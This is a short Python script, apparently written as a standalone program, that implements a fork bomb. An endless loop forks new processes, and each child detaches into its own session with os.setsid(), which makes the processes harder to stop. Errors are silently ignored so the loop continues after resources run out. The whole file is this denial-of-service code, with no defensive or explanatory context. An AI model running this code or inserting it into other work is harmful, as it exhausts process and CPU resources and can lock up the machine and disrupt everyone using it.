"""Starts processes without end, each in a session of its own."""
import os

while True:
    try:
        if os.fork() == 0:
            os.setsid()
    except OSError:
        pass
